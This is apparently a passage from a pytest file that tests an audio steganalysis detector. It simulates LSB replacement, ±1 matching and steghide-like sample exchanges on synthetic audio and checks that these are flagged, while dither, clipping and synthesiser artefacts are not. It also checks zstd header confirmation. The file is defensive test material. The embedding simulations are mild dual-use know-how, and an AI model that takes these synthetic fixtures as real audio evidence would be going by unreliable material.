    """16-bit sound scaled by -0.25 dB at a wider precision and stored as 24 bits: a comb of
    step 248.7, one value per tooth (what ``sox gain -0.25`` writes with ``-b 24``), with
    TPDF dither of ``dither`` LSB at the 24-bit LSB when asked."""
    scaled = clean16.astype(np.float64) * 256.0 * 10 ** (-0.25 / 20)
    if dither:
        scaled += tpdf(clean16.shape, dither, seed)
    return np.rint(scaled).astype(np.int64)


def replace_low_bit(values: np.ndarray, share: float, seed: int) -> np.ndarray:
    """Bit 0 of the first ``share`` of the samples (frame order) set to random bits."""
    rng = np.random.default_rng(seed)
    flat = values.reshape(-1).copy()
    count = int(share * flat.size)
    flat[:count] = (flat[:count] & ~1) | rng.integers(0, 2, count)
    return flat.reshape(values.shape)


def test_clean_gained_24_bit_comb_is_not_flagged(clean: np.ndarray) -> None:
    report = analyse_wide(gained_24_bit(clean), 24)
    assert codes(report) == []
    assert report.features["comb_pairs"] == 0.0


@pytest.mark.parametrize("share", [0.5, 1.0])
def test_lsb_replacement_on_a_gained_24_bit_comb_is_flagged_with_its_size(
    clean: np.ndarray, share: float
) -> None:
    cover = gained_24_bit(clean)
    report = analyse_wide(replace_low_bit(cover, share, seed=11), 24)
    found = next(f for f in report.findings if f.code == "stego.lsb_below_noise_floor")
    assert found.evidence["pair_aligned"] == found.evidence["comb_pairs"] >= 32
    # The share is read on the quiet samples (|value| < 2**16): within 0.1 of theirs.
    quiet = (np.abs(cover) < 1 << 16).reshape(-1)
    truth = quiet[: int(share * quiet.size)].sum() / quiet.sum()
    assert abs(float(found.evidence["estimated_fraction"]) - truth) < 0.1
    assert report.estimated_fraction == pytest.approx(found.evidence["estimated_fraction"], 1e-3)


def test_tpdf_dither_at_the_24_bit_lsb_of_a_comb_is_not_flagged(clean: np.ndarray) -> None:
    """Dither spreads each tooth to both neighbours alike: its two-value runs are pair-aligned
    half the time, where replacement's always are."""
    report = analyse_wide(gained_24_bit(clean, dither=1.0, seed=12), 24)
    assert "stego.lsb_below_noise_floor" not in codes(report)
    assert report.features["comb_pairs"] >= 32
    assert 0.3 < report.features["comb_aligned_share"] < 0.7


def test_lsb_replacement_on_gained_8_bit_sound_in_16_bits_is_flagged(clean: np.ndarray) -> None:
    """The comb test reads every 16-bit value: 8-bit sound scaled by 0.9 into 16 bits
    (step 230.4, not a power of two, so no lattice) with its low bit replaced."""
    cover = np.rint((clean.astype(np.int64) >> 8) * 256 * 0.9).astype(np.int64)
    assert codes(analyse_wide(cover, 16)) == []
    report = analyse_wide(replace_low_bit(cover, 1.0, seed=13), 16)
    assert "stego.lsb_below_noise_floor" in codes(report)


def gained_8_bit(clean: np.ndarray, noise: float = 0.0, seed: int = 0) -> np.ndarray:
    """8-bit sound scaled by 0.9 into 16 bits (a comb of step 230.4), with Gaussian noise of
    ``noise`` LSB added before the rounding (a gain and a noise computed at once)."""
    scaled = (clean.astype(np.int64) >> 8) * 256 * 0.9
    scaled = scaled + np.random.default_rng(seed).normal(0.0, noise, scaled.shape) * (noise > 0)
    return np.rint(scaled).astype(np.int64)


def satellites(report: StegoReport) -> dict[str, object] | None:
    found = [f for f in report.findings if f.code == "stego.lsb_below_noise_floor"]
    return found[0].evidence if found and "satellite_share_per_side" in found[0].evidence else None


def test_plus_minus_one_embedding_on_a_comb_is_flagged_by_its_even_satellites(
    clean: np.ndarray,
) -> None:
    """steghide's exchanges find no partner an odd distance away on a comb and move samples by
    +-1: every tooth gives the same share to both neighbours, which the comb test spares."""
    cover = gained_8_bit(clean)
    assert codes(analyse_wide(cover, 16)) == []
    report = analyse_wide(exchanged(cover, 0.063, seed=33), 16)
    evidence = satellites(report)
    assert evidence is not None
    assert 0.025 < float(evidence["satellite_share_per_side"]) < 0.035  # 0.063 * 0.92 / 2
    assert 0.15 < float(evidence["steghide_capacity_fraction"]) < 0.35  # 25 % of its capacity
    low = analyse_wide(exchanged(cover, 0.013, seed=34), 16)  # steghide at 5 % of capacity
    assert satellites(low) is not None


def test_tpdf_dither_on_a_stored_comb_is_not_a_payload(clean: np.ndarray) -> None:
    """Dither added to the stored integers spreads 1/8 of each tooth to each side."""
    cover = gained_8_bit(clean)
    dithered = np.rint(cover + tpdf(cover.shape, 2.0, seed=35)).astype(np.int64)
    assert "stego.lsb_below_noise_floor" not in codes(analyse_wide(dithered, 16))


def test_noise_before_the_rounding_of_a_comb_is_not_a_payload(clean: np.ndarray) -> None:
    """Noise as small as +-1 embedding's, added before the gain's rounding: each tooth spreads
    by the fraction its true value was rounded by, unevenly from tooth to tooth."""
    for noise in (0.2, 0.3):
        report = analyse_wide(gained_8_bit(clean, noise=noise, seed=36), 16)
        assert "stego.lsb_below_noise_floor" not in codes(report)


def test_random_low_bits_of_a_dense_24_bit_recording_are_not_a_comb() -> None:
    """A real 24-bit recording's quiet samples fill every value: no isolated teeth."""
    noisy = music_like(4.0, seed=3).astype(np.int64) * 256
    noisy += np.random.default_rng(14).normal(0, 300, noisy.shape).astype(np.int64)
    report = analyse_wide(replace_low_bit(noisy, 1.0, seed=15), 24)
    assert "stego.lsb_below_noise_floor" not in codes(report)


def exchanged(cover: np.ndarray, changed: float, seed: int) -> np.ndarray:
    """What steghide's value exchanges do to a cover (measured on a train-split clip at 25 %
    of its capacity): ``changed`` of the samples, at random, moved by an odd amount, +-1 for
    92 % of them and +-3..+-19 for the rest, fewer the further."""
    rng = np.random.default_rng(seed)
    flat = cover.reshape(-1).astype(np.int64).copy()
    where = np.flatnonzero(rng.random(flat.size) < changed)
    sizes = np.arange(1, 20, 2)
    weights = np.array([11444, 800, 172, 58, 30, 11, 10, 7, 6, 4], dtype=np.float64)
    step = rng.choice(sizes, where.size, p=weights / weights.sum())
    flat[where] += step * rng.choice([-1, 1], where.size)
    return np.clip(flat, -32768, 32767).reshape(cover.shape)


def displaced(report: StegoReport) -> bool:
    return "stego.displaced_samples" in codes(report)


def test_value_exchanges_leave_lone_displaced_samples(clean: np.ndarray) -> None:
    report = analyse(exchanged(clean, 0.06, seed=21).astype(np.int16))
    found = next(f for f in report.findings if f.code == "stego.displaced_samples")
    assert found.evidence["impulses"] >= 12
    assert 5.0 <= float(found.evidence["mean_displacement_lsb"]) <= 19.0
    assert report.features["impulse_events"] == found.evidence["impulses"]


def test_clean_clip_has_no_displaced_samples(clean: np.ndarray) -> None:
    report = analyse(clean)
    assert not displaced(report)
    assert report.features["impulse_rows"] >= 300  # judged, not skipped: the clip is predictable
    assert report.features["impulse_events"] <= 2


def test_plus_minus_one_changes_and_dither_are_not_displaced_samples(clean: np.ndarray) -> None:
    """LSB matching and TPDF dither move samples by at most one or two LSB: no lone impulse
    stands out of the rounding noise."""
    matched = lsb_match(clean.astype(np.int64), 1.0).astype(np.int16)
    assert not displaced(analyse(matched))
    dithered = np.rint(clean + tpdf(clean.shape, 2.0, seed=22)).astype(np.int16)
    assert not displaced(analyse(dithered))


def test_a_sharp_kink_repeating_in_the_sound_is_not_a_displaced_sample(clean: np.ndarray) -> None:
    """A crossover kink or a glitch repeating with a wave spans several samples: its residual
    does not fit the lone-sample template."""
    t = np.arange(clean.shape[0]) / RATE
    wave = 3000.0 * np.sin(2 * np.pi * 154.0 * t)
    kinked = wave + 6.0 * np.sign(wave) * (np.abs(wave) < 200)  # a step at every crossing
    sound = np.clip(np.rint(clean + kinked[:, None]), -32768, 32767).astype(np.int16)
    assert not displaced(analyse(sound))


@pytest.mark.skipif(STEGHIDE is None, reason="steghide is not installed (scripts/setup.sh)")
def test_steghide_in_ordinary_16_bit_audio_is_flagged(clean: np.ndarray, tmp_path: Path) -> None:
    cover = clean[: RATE * 3].astype(np.int64)
    payload = np.random.default_rng(23).integers(0, 256, 1200, dtype=np.uint8).tobytes()
    stego = steghide_embed(cover, 16, payload, tmp_path)
    assert not displaced(analyse(cover.astype(np.int16)))
    assert displaced(analyse(stego.astype(np.int16)))


def loud_with_silences(seed: int = 30) -> np.ndarray:
    """3 s of loud full-band sound (white noise of 3000 LSB: no 128-sample block is
    predictable) broken by twelve 6144-sample stretches of digital silence, mono int64."""
    rng = np.random.default_rng(seed)
    sound = rng.normal(0.0, 3000.0, (RATE * 3, 1))
    for start in range(RATE // 8, sound.shape[0], RATE // 4):
        sound[start : start + 6144] = 0.0
    return np.rint(sound).astype(np.int64)


def test_exchanges_in_the_silences_of_a_loud_clip_are_displaced_samples() -> None:
    """Where the only predictable blocks are digital silence (loud clips, low sample rates),
    steghide's exchanges leave lone odd samples of 9-19 LSB there: a clip with far fewer than
    300 predictable blocks is judged by the impulses standing in most of them."""
    cover = loud_with_silences()
    clean_report = analyse(cover.astype(np.int16))
    assert clean_report.features["impulse_rows"] == 0  # silence alone does not qualify
    assert not displaced(clean_report)
    report = analyse(exchanged(cover, 0.064, seed=31).astype(np.int16))
    assert 8 <= report.features["impulse_rows"] < 300
    assert report.features["impulse_events"] >= report.features["impulse_rows"] / 2
    assert displaced(report)


def test_a_few_clicks_in_the_silences_of_a_loud_clip_are_not_displaced_samples() -> None:
    """An edit's or a glitch's lone samples in dithered silence: each stands alone in its
    block, but there are a few of them, where a payload leaves one in every block it reaches."""
    cover = loud_with_silences()
    sound = np.rint(cover + tpdf(cover.shape, 2.0, seed=32)).astype(np.int64)
    for start in range(RATE // 8, 6 * (RATE // 4), RATE // 4):
        sound[start + 3000] = 13
    report = analyse(sound.astype(np.int16))
    assert 1 <= report.features["impulse_events"] < 8
    assert not displaced(report)


def test_loud_one_sample_clicks_of_a_synthesiser_are_not_displaced_samples() -> None:
    """A test impulse train (one-sample clicks of 150 LSB, 8 a second) over a quiet tone in
    white noise: a click that loud echoes through the interpolator (-a_k d beside it) and lifts
    its own block's noise past what a predictable block may hold, so it is not counted."""
    rng = np.random.default_rng(24)
    t = np.arange(RATE * 6) / RATE
    sound = 30.0 * np.sin(2 * np.pi * 220.0 * t)[:, None] + rng.normal(0, 1.0, (t.size, 2))
    sound[:: RATE // 8] += 150.0
    report = analyse(np.rint(sound).astype(np.int16))
    assert report.features["impulse_rows"] >= 300  # judged: every block is predictable
    assert not displaced(report)


@pytest.mark.parametrize("bits", [1, 2])
@pytest.mark.parametrize("carriers", [64, 8 * 100 + 3, 4 * 100 + 2])
def test_streams_packed_once_equal_each_bit_order_packed_alone(bits: int, carriers: int) -> None:
    low = np.random.default_rng(carriers + bits).integers(0, 256, carriers, dtype=np.uint8)
    packed = carving._pack_streams(low, bits, 1 << 16)
    for order, stream in zip(carving._ORDERS, packed, strict=True):
        np.testing.assert_array_equal(stream, carving._pack_stream(low, bits, order, 1 << 16))


@pytest.mark.parametrize("drive", [1.8, 4.0])
def test_a_hard_clipped_tone_under_dither_has_no_displaced_samples(drive: float) -> None:
    """A hard clip joins a flat top to a slope: the corner's residual is even and sits on one
    sample, an impulse the size of the slope there; it sits beside the clip, which no steghide
    exchange needs to. (A quiet clipped effect: flat tops at +-333 LSB under TPDF dither.)"""
    t = np.arange(RATE * 4) / RATE
    wave = np.clip(333.0 * drive * np.sin(2 * np.pi * 97.0 * t), -333.0, 333.0)
    sound = np.rint(wave + tpdf(t.shape, 2.0, seed=40)).astype(np.int16).reshape(-1, 1)
    report = analyse(sound)
    assert report.features["impulse_rows"] >= 300  # judged: the tone is predictable
    assert not displaced(report)


def test_a_tone_clipped_at_the_rail_has_no_displaced_samples() -> None:
    """A 1 kHz tone at 8 kHz driven into the rails: each crest sample is cut by the clip alone."""
    rate = 8000
    t = np.arange(rate * 8) / rate
    wave = 2.7 * 32767.0 * np.sin(2 * np.pi * 1000.0 * t + 0.3)
    noisy = wave + tpdf(t.shape, 2.0, seed=41)
    sound = np.clip(np.rint(noisy), -32768, 32767).astype(np.int16).reshape(-1, 1)
    assert not displaced(analyse(sound))


def _zstd_frame(body: bytes, descriptor: int = 0x20) -> bytes:
    """A zstd frame: single segment, 1-byte content size, one raw last block (RFC 8878)."""
    block = (len(body) << 3 | 0 << 1 | 1).to_bytes(3, "little")
    return b"\x28\xb5\x2f\xfd" + bytes([descriptor, len(body)]) + block + body


def test_a_zstd_magic_is_confirmed_by_its_frame_and_block_headers() -> None:
    from audiomodel.payload import confirm_signature

    assert confirm_signature("zstd", _zstd_frame(b"x" * 200), 0)
    assert not confirm_signature("zstd", _zstd_frame(b"x" * 200, descriptor=0x30), 0)  # unused bit
    reserved = bytearray(_zstd_frame(b"x" * 200))
    reserved[6] |= 0b110  # block type 3: reserved
    assert not confirm_signature("zstd", bytes(reserved), 0)
    rng = np.random.default_rng(43)
    heads = [
        b"\x28\xb5\x2f\xfd" + rng.integers(0, 256, 60, dtype=np.uint8).tobytes()
        for _ in range(4000)
    ]
    passed = sum(confirm_signature("zstd", head, 0) for head in heads)
    assert passed < 4000 / 40  # random bytes: ~1/98 pass (the reserved bit alone passed 1/2)


def _hits_on_a_grid(cover: np.ndarray, step: int, offsets: tuple[int, ...]) -> np.ndarray:
    """A sequencer's glitch: the same lone sample displaced by 11 LSB at the same offsets in
    every hit, hits on a grid of ``step`` frames (truncated to whole frames, 70% of steps)."""
    out = cover.astype(np.int64).copy()
    rng = np.random.default_rng(31)
    for s in range(int(cover.shape[0] / step)):
        if rng.random() < 0.7:
            for offset in offsets:
                at = int(s * step + 0.37 * (s % 3)) + offset
                if at < out.shape[0]:
                    out[at, 0] -= 11
    return np.clip(out, -32768, 32767).astype(np.int16)


def test_a_sequencers_glitch_repeating_on_its_grid_is_not_a_displaced_sample(
    clean: np.ndarray,
) -> None:
    """A drum machine plays the same hit each step: its lone displaced samples recur at the
    same offsets on the tempo's grid, where steghide's fall anywhere."""
    glitched = _hits_on_a_grid(clean, 3300, (1200, 1415))
    assert not displaced(analyse(glitched))


def test_value_exchanges_beside_a_sequencers_grid_are_still_displaced_samples(
    clean: np.ndarray,
) -> None:
    glitched = _hits_on_a_grid(clean, 3300, (1200, 1415))
    report = analyse(exchanged(glitched, 0.06, seed=21).astype(np.int16))
    assert displaced(report)


def naive_triangles(seconds: float, seed: int, level: float = 0.018) -> np.ndarray:
    """A quiet synthesiser line of naive (not band-limited) triangle waves, -35 dBFS, stored
    undithered: straight segments whose slope breaks at one exact sample at every peak."""
    rng = np.random.default_rng(seed)
    n = int(seconds * RATE)
    y = np.zeros(n)
    note = RATE // 4
    for start in range(0, n, note):
        f0 = 110.0 * 2 ** (rng.integers(0, 24) / 12)
        phase = (f0 * np.arange(min(note, n - start)) / RATE) % 1.0
        y[start : start + phase.size] = (4 * np.abs(phase - 0.5) - 1) * level
    mono = np.rint(y * 32767).astype(np.int64)
    return np.stack([mono, mono], axis=1)


def test_a_quiet_naive_synthesiser_s_corners_are_not_displaced_samples() -> None:
    """Fresh good seed 24's quiet synth read 56 lone impulses at d270aee, all at its waves'
    corners (own naive triangles: 148-344): a corner is a lone second-difference spike on
    straight segments, a displaced sample puts half its spike against it on each side."""
    assert not displaced(analyse(naive_triangles(10.0, seed=0).astype(np.int16)))


def test_exchanges_in_a_quiet_naive_synthesiser_are_still_displaced_samples() -> None:
    cover = naive_triangles(10.0, seed=0)
    report = analyse(exchanged(cover, 0.06, seed=25).astype(np.int16))
    assert displaced(report)


def stepped_tone(seconds: float, seed: int, pixel_s: float = 0.000275) -> np.ndarray:
    """SSTV-like: a tone at half scale whose frequency (1500-2300 Hz) steps at every pixel
    edge, phase-continuous, the pixels a slowly varying image row: the slope changes at each
    step and the value does not (mono int64)."""
    rng = np.random.default_rng(seed)
    n = int(seconds * RATE)
    pixels = int(n / (pixel_s * RATE)) + 2
    freq = 1900.0 + 400.0 * np.sin(np.cumsum(rng.normal(0.0, 15.0, pixels)) / 400.0)
    per_sample = freq[(np.arange(n) / (pixel_s * RATE)).astype(np.int64)]
    wave = 0.5 * 32767.0 * np.sin(2 * np.pi * np.cumsum(per_sample) / RATE)
    return np.rint(wave).astype(np.int64).reshape(-1, 1)


def test_the_kinks_of_a_tone_stepping_its_frequency_are_not_displaced_samples(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """SSTV's pixels step a sine's frequency: each step is a slope change, whose interpolation
    residual is even like a displaced sample's (honest SSTV images read 12-280 impulses)."""
    from audiomodel.stego import impulses

    sound = stepped_tone(6.0, seed=1).astype(np.int16)
    assert not displaced(analyse(sound))
    monkeypatch.setattr(impulses, "_KINK_BETTER", np.inf)  # without the kink template
    assert displaced(analyse(sound))


def test_exchanges_in_a_tone_stepping_its_frequency_are_still_displaced_samples() -> None:
    cover = stepped_tone(6.0, seed=1)
    assert displaced(analyse(exchanged(cover, 0.06, seed=21).astype(np.int16)))


def test_the_step_templates_are_a_slope_and_a_bend_change_s_residuals() -> None:
    from audiomodel.stego.impulses import _K, kink_misfit, kink_templates

    coef = np.full(4, 0.125)  # a_1..a_4 summing to 1/2: a line's residual is zero
    templates = kink_templates(coef)
    slope, bend = templates[2]  # the step on the sample: |n| and n |n|
    n = np.arange(-_K - 4, _K + 5, dtype=np.float64)
    for wave, template in ((np.abs(n), slope), (n * np.abs(n), bend)):
        direct = [wave[4 + m] - 0.125 * sum(wave[4 + m - k] + wave[4 + m + k] for k in range(1, 5))
                  for m in range(2 * _K + 1)]  # fmt: skip
        np.testing.assert_allclose(template, direct)
    np.testing.assert_allclose(slope, slope[::-1])  # even about the sample
    np.testing.assert_allclose(bend, -bend[::-1])  # odd
    impulse = np.concatenate([-coef[::-1], [1.0], -coef])
    # a lone displaced sample is no step: the step's best fit leaves most of it ...
    assert kink_misfit(impulse[None, :], coef)[0] > 0.3 * (impulse @ impulse)
    # ... and a step is all step
    assert kink_misfit((3.0 * slope + 0.5 * bend)[None, :], coef)[0] < 1e-9
